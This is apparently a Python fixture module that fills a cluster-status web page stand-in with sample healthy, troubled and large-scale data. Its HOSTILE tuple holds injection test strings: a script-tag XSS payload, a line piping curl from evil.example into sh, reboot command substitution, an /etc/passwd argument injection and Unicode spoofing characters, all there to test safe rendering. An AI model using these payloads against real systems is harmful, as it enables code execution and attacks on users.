"""What the stand-in shows in pictures: a cluster in trouble at three in the morning, and one in which all is well."""

from __future__ import annotations

import time
from typing import Any

from web.page.standin import GENERATION, StandIn

__all__ = ["HOSTILE", "hostile", "many", "trouble", "well"]

HOSTILE = (
    "<script>alert(1)</script>",
    "'; curl evil.example | sh; '",
    "$(reboot)`reboot`",
    "-o/etc/passwd",
    "safe\u202egnp.exe",
    "zero\u200bwidth\u2066 and \u00a0 spaces",
    'quo"te\\back%41&x=1#hash?q +plus',
    "日本語/ключ/🙂",
    "i" * 200 + "/" + "n" * 200,
)


def well(site: StandIn) -> None:
    """Fill in a small cluster without trouble."""
    began = time.time()
    _record(site, "mount", "node1:/mnt/abc", began - 9_000, {"disk": 7, "fs": "xfs", "at": "/mnt/abc"}, node="node1")
    _record(site, "mount", "node1:/mnt/scratch", began - 8_940, {"fs": "tmpfs", "at": "/mnt/scratch"}, node="node1")
    _record(site, "mount", "node2:/mnt/abc", began - 5_000, {"disk": 7, "fs": "xfs", "at": "/mnt/abc"}, node="node2")
    _record(site, "deploy", "web/ready", began - 700, "v1.2.4", node="ci")
    _record(site, "deploy", "web/tested", began - 760, {"passed": 1841, "failed": 0}, node="ci")
    _record(site, "deploy", "api/ready", began - 300, "v0.9.0", node="ci")
    _record(site, "deploy", "nightly/begun", began - 12_000, None, kind="pulsed", node="cron")
    _record(site, "services", "db", began - 86_400, "10.0.0.7:5432", node="db1", held=True)
    _record(site, "services", "cache", began - 40_000, "10.0.0.9:6379", node="cache1", held=True)
    _record(site, "locks", "leader", began - 3_800, "node2", node="node2", held=True, token=_token(41))
    _record(site, "build", "shards", began - 40, 3, kind="counted", node="ci", goal=8)
    _record(site, "build", "checkout", began - 45, True, node="ci")
    for name, ago in (("node1", 90_000), ("node2", 5_400), ("node3", 86_000), ("db1", 86_500), ("cache1", 41_000)):
        value = {"zone": "eu-1a" if name < "node2" else "eu-1b", "version": "1.2.4"}
        site.members.append({"name": name, "kind": "fired", "value": value, "since": began - ago})
    locked: dict[str, Any] = {"rule": "lock", "need": 1}
    owner = {"place": 1, "node": "node2", "since": began - 3_800, "value": "node2"}
    site.holders["locks", "leader"] = {**locked, "count": 1, "holders": [owner]}
    held = {"place": 1, "node": "db1", "since": began - 86_400, "value": "10.0.0.7:5432"}
    site.holders["services", "db"] = {"rule": "hold", "need": 1, "count": 1, "holders": [held]}


def trouble(site: StandIn) -> None:
    """Add what an operator has to look at."""
    well(site)
    began = time.time()
    site.status["namespace"] = "production"
    site.status["server"]["warnings"] = [
        {
            "check": "eviction",
            "text": "the server may evict events: maxmemory-policy is allkeys-lru",
            "fix": "maxmemory-policy noeviction",
        }
    ]
    _record(site, "deploy", "backup/db", began - 190, "disk full: /backup has 12 MB left", kind="failed", node="db1")
    _record(site, "build", "lint", began - 30, "exit status 2", kind="failed", node="ci")
    _record(site, "locks", "nightly", began - 2_400, "node3", node="node3", held=True, token=_token(44))
    _record(site, "locks", "migrate", began - 20, "ci", node="ci", held=True, token=_token(51))
    _record(site, "services", "mail", began - 520, None, kind="expired", node="mail1")
    site.members.append({"name": "mail1", "kind": "expired", "value": {"zone": "eu-1b"}, "since": began - 520})
    site.members.append({"name": "node4", "kind": "withdrawn", "value": {"zone": "eu-1b"}, "since": began - 1_900})
    site.waiting = {
        "mount": {"node3:/mnt/abc": 14, "node2:/mnt/scratch": 2},
        "deploy": {"web/approved": 3},
        "services": {"mail": 6},
    }
    site.corrupt["deploy"] = ["legacy/flag"]
    for key, queue in (("nightly", 3), ("migrate", 1)):
        record = site.maps["locks"][key]
        owner = {"place": 1, "node": record["node"], "since": record["time"], "value": record["value"]}
        others = [
            {"place": place, "node": f"node{place}", "since": record["time"] + 30 * place, "value": f"node{place}"}
            for place in range(2, queue + 2)
        ]
        site.holders["locks", key] = {"rule": "lock", "need": 1, "count": 1 + queue, "holders": [owner, *others]}


def hostile(site: StandIn) -> None:
    """Add keys and values that would like to be something else."""
    for index, key in enumerate(HOSTILE):
        site.put("hostile", key, "failed" if index % 3 == 1 else "fired", key)


def many(site: StandIn, number: int = 10_000) -> None:
    """Add a map with this many keys."""
    began = time.time()
    for index in range(number):
        host, disk = divmod(index, 20)
        key = f"dc{host % 4 + 1}/rack{host // 4 % 25 + 1:02}/host{host:03}/disk{disk:02}"
        kind = "failed" if index % 997 == 5 else "reset" if index % 13 == 0 else "fired"
        value = {"smart": "ok", "hours": index * 7 % 40_000} if kind == "fired" else "i/o error"
        _record(site, "disks", key, began - index % 86_400, value, kind=kind, node=f"host{host:03}")


def _token(number: int) -> str:
    return f"{GENERATION:016}{number:016}"


def _record(site: StandIn, map_name: str, key: str, at: float, value: Any, kind: str = "fired", **more: Any) -> None:
    site.put(map_name, key, kind, value, time=at, **more)
